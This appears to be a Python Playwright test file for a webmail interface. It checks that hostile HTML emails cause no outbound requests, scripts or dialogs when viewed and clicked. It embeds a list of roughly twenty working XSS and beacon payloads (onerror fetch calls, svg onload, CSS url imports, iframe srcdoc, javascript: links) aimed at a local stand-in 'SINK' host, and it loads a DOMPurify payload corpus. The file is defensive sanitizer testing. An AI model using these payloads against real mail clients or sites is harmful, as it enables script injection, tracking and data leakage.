"""Looking at hostile mail harms nobody: no request, no script, not even a connection leaves the browser, wherever it is clicked."""

import contextlib
import json
import socket
import tarfile
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Dialog, Error, Page, expect

from tests.peers import processes
from tests.triage.arriving import NO_DMARC
from tests.webui.site import JOE, Site

# SINK is host:port of a listener that remembers everybody who connects
LEADS = [
    '<link rel="preconnect" href="http://SINK/"><link rel="dns-prefetch" href="//SINK"><link rel="prefetch" href="http://SINK/1">',
    '<link rel="stylesheet" href="http://SINK/2.css"><style>@import "http://SINK/3.css";</style>',
    "<style>body { background: url(http://SINK/4.png) } @font-face { font-family: f; src: url(http://SINK/43) } * { font-family: f }",
    '<meta http-equiv="refresh" content="0; url=http://SINK/5"><base href="http://SINK/">',
    '<script src="http://SINK/6.js"></script><script>new Image().src = "http://SINK/7"; alert(1)</script>',
    '<img src="http://SINK/8.gif"><img srcset="http://SINK/9.gif 1x"><img src="x" onerror="fetch(\'http://SINK/10\')">',
    '<picture><source srcset="http://SINK/11.webp"><img src="cid:none"></picture><input type="image" src="http://SINK/12">',
    '<svg><image href="http://SINK/13.png"/><script href="http://SINK/14.js"/><use href="http://SINK/15.svg#a"/></svg>',
    '<svg onload="fetch(\'http://SINK/16\')"><filter><feImage href="http://SINK/17"/></filter><animate onbegin="alert(2)" dur="1s"/></svg>',
    '<math><mtext><table><mglyph><style><img src="http://SINK/18" onerror="alert(3)"></style></mglyph></table></mtext></math>',
    '<iframe src="http://SINK/19"></iframe><iframe srcdoc="<img src=http://SINK/20>"></iframe><object data="http://SINK/21"></object>',
    '<embed src="http://SINK/22"><video src="http://SINK/23" autoplay></video><audio src="http://SINK/24" autoplay></audio>',
    '<video poster="http://SINK/25"><track src="http://SINK/26"></video><body background="http://SINK/27"><table background="http://SINK/28">',
    '<div style="background-image: url(http://SINK/29)">a</div><div style="content: image-set(\'http://SINK/30\' 1x)">b</div>',
    '<div style="--x: url(http://SINK/31); background: var(--x)">c</div><div style="list-style: u\\72l(http://SINK/32)">d</div>',
    '<form action="http://SINK/33"><button autofocus>e</button><input name="q"></form><button formaction="http://SINK/34">f</button>',
    '<a href="http://SINK/35" ping="http://SINK/36">g</a><a href="javascript:alert(4)">h</a><a href="data:text/html,<p>j">i</a>',
    '<a href="http://SINK/37" style="position: fixed; inset: 0">everywhere</a><map name="m"><area href="http://SINK/38"></map>',
    '<details open ontoggle="alert(6)">j</details><marquee onstart="alert(7)">k</marquee><select autofocus onfocus="alert(8)"></select>',
    '<template><img src="http://SINK/39"></template><noscript><img src="http://SINK/40"></noscript><portal src="http://SINK/41"></portal>',
    '<x style="animation: a" onanimationstart="alert(9)">l</x><frameset><frame src="http://SINK/42"></frameset>',
]


class Sink:
    """Remembers whoever connects, and answers nothing."""

    def __init__(self, listener: socket.socket) -> None:
        self.listener = listener
        self.seen: list[bytes] = []
        self.address = "{}:{}".format(*listener.getsockname()[:2])
        threading.Thread(target=self.listen, daemon=True).start()

    def listen(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                connection, _ = self.listener.accept()
                with connection:
                    connection.settimeout(0.2)
                    try:
                        self.seen.append(connection.recv(200))
                    except OSError:
                        self.seen.append(b"a bare connection")


@pytest.fixture
def sink() -> Iterator[Sink]:
    """A place outside that must never hear of us."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        yield Sink(listener)


def html_mail(subject: str, body: str) -> bytes:
    """A mail that is only that document."""
    head = f"From: Mallory <mallory@stranger.example>\r\nTo: joe.fern@company.example\r\nSubject: {subject}\r\nMIME-Version: 1.0\r\n"
    return f"{head}Content-Type: text/html; charset=utf-8\r\n\r\n{body}\r\n".encode()


def looked_through(site: Site, page: Page, sink: Sink, subjects: list[str]) -> list[Any]:
    """Walk through these mails with the keys and click all over each; the requests to anywhere else, and the dialogs."""
    strays: list[Any] = []

    def dismiss(dialog: Dialog) -> None:
        strays.append(dialog.message)
        dialog.dismiss()

    page.on("request", lambda asked: strays.append(asked.url) if not asked.url.startswith((site.url, "data:")) else None)
    page.on("dialog", dismiss)
    page.context.on("page", lambda opened: strays.append(opened.url))
    site.sit_down(page, path=f"/?q={subjects[0].split()[0]}")
    page.get_by_role("group", name="Group by").get_by_role("button", name="None").click()
    expect(page.get_by_role("option").first).to_be_visible()
    page.locator("#content").focus()
    page.keyboard.press("Home")
    waiting = set(subjects)
    while waiting:
        row = page.locator(".row.at")
        waiting.remove(subject := next(one for one in waiting if one in row.inner_text()))
        expect(page.get_by_role("heading", name=subject, exact=True)).to_be_visible()
        shown = page.locator("iframe:visible")
        expect(shown).to_have_count(1)
        box = shown.bounding_box()
        assert box is not None
        for across, down in ((0.1, 0.05), (0.5, 0.3), (0.3, 0.6), (0.9, 0.9)):
            page.mouse.click(box["x"] + box["width"] * across, box["y"] + box["height"] * down)
        page.mouse.click(box["x"] + 20, box["y"] + 20, button="middle")
        assert page.url.startswith(site.url)
        page.locator("#content").focus()
        page.keyboard.press("j")
    return strays + sink.seen


def test_nothing_leaves_the_browser(site: Site, page: Page, sink: Sink) -> None:
    for number, vector in enumerate(LEADS):
        raw = html_mail(f"Vector {number:02}.", vector.replace("SINK", sink.address))
        site.come(JOE, author=f"m{number}@stranger.example", subject=f"Vector {number:02}.", raw=raw, dmarc=NO_DMARC)
    assert looked_through(site, page, sink, [f"Vector {number:02}." for number in range(len(LEADS))]) == []


def test_the_same_mails_would_do_harm_elsewhere(browser: Browser, sink: Sink) -> None:
    context = browser.new_context()
    page = context.new_page()
    page.on("dialog", lambda dialog: dialog.dismiss())
    for vector in (LEADS[0], LEADS[1], LEADS[4], LEADS[5], LEADS[10]):
        with contextlib.suppress(Error):  # some lead away from the page at once
            page.set_content(vector.replace("SINK", sink.address), wait_until="commit")
    processes.until(lambda: len(sink.seen) >= 5, "mails that nobody cleaned connect")
    context.close()


@pytest.mark.corpus
def test_nor_with_what_others_have_collected(site: Site, page: Page, sink: Sink, corpus: Path) -> None:
    with tarfile.open(corpus / "html-hostile.tar.gz") as archive:
        stream = archive.extractfile("html-hostile/dompurify-expect.json")
        assert stream is not None
        payloads = [one["payload"] for one in json.load(stream)]
    assert len(payloads) > 200
    groups = [payloads[start : start + 25] for start in range(0, len(payloads), 25)]
    for number, group in enumerate(groups):
        body = "".join(f"<div>{payload}</div>\n" for payload in group)
        raw = html_mail(f"Collected {number:02}.", body)
        site.come(JOE, author=f"m{number}@stranger.example", subject=f"Collected {number:02}.", raw=raw, dmarc=NO_DMARC)
    assert looked_through(site, page, sink, [f"Collected {number:02}." for number in range(len(groups))]) == []
